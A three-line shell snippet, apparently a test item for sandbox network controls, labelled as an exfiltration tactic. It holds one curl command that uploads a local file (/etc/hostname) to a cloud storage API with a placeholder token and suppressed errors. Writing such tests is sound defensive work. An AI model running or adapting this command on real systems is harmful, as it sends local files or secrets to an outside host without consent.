# tactic: exfiltration
# upload a file to a cloud storage API (the sandbox network namespace only)
curl -s -m 1 -X POST https://content.dropboxapi.com/2/files/upload -H "Authorization: Bearer x" --data-binary @/etc/hostname 2>/dev/null; true
